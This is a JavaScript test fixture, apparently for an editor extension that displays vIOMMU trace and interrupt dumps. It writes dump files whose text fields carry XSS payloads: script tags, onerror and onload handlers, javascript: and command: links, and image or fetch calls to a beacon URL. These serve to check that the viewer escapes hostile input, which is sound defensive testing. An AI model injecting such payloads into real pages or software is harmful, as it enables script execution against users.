// A hostile capture: a folder of dump files the parsers accept, whose free-text
// fields carry markup, script and link payloads, so those strings reach the
// ATS sequence webview and the hovers as a hostile dump would make them.
// Free text in the formats: the message of a QEMU trace line with a %s
// format (vtd_inv_desc_wait_irq's, which the ATS flow shows as the wait's
// completion), the trace's file name (the flow's title), the action names of
// a /proc/interrupts row (the requester hover lists them as guest IRQs) and
// the IOMMU unit name of dmar_translation_struct (no blank and no colon: the
// header ends it at either). Every payload that runs calls the lane's beacon
// (a fetch, or an image load) and leaves a marker, `self.__viommuXss`, in the
// frame it ran in; the file names are ones no other file of the workspace
// has, so Quick Open picks these.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { samplesDir } from './paths.mjs';

const SAMPLE = join(samplesDir, 'linux-6.1-qemu-7.2-legacy');

/** The global a payload's script sets in the frame it runs in. */
export const XSS_MARKER = '__viommuXss';

/** Each payload (one line, as free text in a dump); `beacon` is the lane's counter URL. */
export function hostilePayloads(beacon) {
  const run = (id) => `fetch('${beacon}/${id}');self.${XSS_MARKER}='${id}'`;
  return [
    { id: 'img-onerror', text: `<img src=x onerror="${run('img-onerror')}">` },
    { id: 'script', text: `<script>${run('script')}</script>` },
    { id: 'attribute-breakout', text: `"><svg onload="${run('attribute-breakout')}">` },
    { id: 'javascript-link', text: `<a href="javascript:${run('javascript-link')}">open</a>` },
    { id: 'remote-image', text: `<img src="${beacon}/remote-image">` },
    { id: 'markdown-command-link', text: '[Open a terminal](command:workbench.action.terminal.new)' },
    { id: 'markdown-image', text: `![pixel](${beacon}/markdown-image)` },
    { id: 'markdown-autolink', text: `<${beacon}/markdown-autolink>` },
    { id: 'html-entities', text: '&lt;b&gt;bold&lt;/b&gt; &amp; &#60;i&#62;' },
  ];
}

/** A unit name: no blank, no colon (the dmar_translation_struct header ends the name at either). */
export const HOSTILE_UNIT = `<img/src=x/onerror=self.${XSS_MARKER}='unit-name'>`;

/** The trace's file name (shown as the flow's title): no slash, the one character a file name cannot hold. */
export const HOSTILE_TRACE_NAME = `<img src=x onerror=self.${XSS_MARKER}='trace-name'>.trace`;

/** The requester whose IRQs carry the payloads: hwirq 65536 + n is 00:04.0's MSI vector n (pci_dev_id << 11). */
export const HOSTILE_REQUESTER = '00:04.0';

/** Names of the capture's files (unique in the workspace, and each opens in its vIOMMU language). */
export const HOSTILE_FILES = {
  dmar: 'dmar_translation_struct.hostile',
  interrupts: 'interrupts.hostile.txt',
  trace: HOSTILE_TRACE_NAME,
};

/**
 * One queue fetch per payload for the ATS-capable 00:03.0 (context entry with
 * TT = 01): a device-TLB invalidation, a wait with IF, and its completion
 * line carrying the payload.
 */
function hostileTrace(payloads) {
  const lines = [
    'vtd_iotlb_cc_update IOTLB context update bus 0x0 devfn 0x18 high 0x501 low 0x1b18005 gen 0 -> gen 1',
    'vtd_iotlb_page_update IOTLB page update sid 0x18 iova 0xfffe0002 slpte 0x2366003 domain 0x5',
    'vtd_dmar_translate dev 00:03.00 iova 0xfffe0000 -> gpa 0x2366000 mask 0xfff',
  ];
  payloads.forEach((p, i) => {
    lines.push(
      `vtd_reg_write addr 0x88 size 0x4 value 0x${((2 * i + 2) * 16).toString(16)}`,
      'vtd_inv_qi_fetch ',
      `vtd_inv_qi_head read head ${2 * i}`,
      'vtd_inv_desc invalidate desc type device high 0xfffe0001 low 0x1800000003',
      `vtd_inv_qi_head read head ${2 * i + 1}`,
      'vtd_inv_desc invalidate desc type wait high 0x0 low 0x15',
      `vtd_inv_desc_wait_irq ${p.text}`,
    );
  });
  return lines.join('\n') + '\n';
}

/** The sample's /proc/interrupts with 00:04.0's three MSI-X rows named by payloads, and one more row of its per further payload. */
function hostileInterrupts(payloads) {
  const rows = readFileSync(join(SAMPLE, 'interrupts'), 'utf8').split('\n');
  const at = rows.findIndex((l) => /^\s*25:/.test(l));
  const ours = payloads.map((p, i) => `${String(40 + i).padStart(3)}:          0          0  IR-PCI-MSI ${65536 + i}-edge      ${p.text}`);
  const kept = rows.filter((l) => !/^\s*2[567]:/.test(l));
  kept.splice(at, 0, ...ours);
  return kept.join('\n');
}

/** The sample's context tables under a unit named by a payload. */
function hostileDmar() {
  const text = readFileSync(join(SAMPLE, 'dmar_translation_struct'), 'utf8');
  return text.replace(/^IOMMU dmar0:/m, `IOMMU ${HOSTILE_UNIT}:`);
}

/** Writes the hostile capture into `dir`; returns its payloads. */
export function writeHostileCapture(dir, beacon) {
  const payloads = hostilePayloads(beacon);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, HOSTILE_FILES.dmar), hostileDmar());
  writeFileSync(join(dir, HOSTILE_FILES.interrupts), hostileInterrupts(payloads));
  writeFileSync(join(dir, HOSTILE_FILES.trace), hostileTrace(payloads));
  return payloads;
}
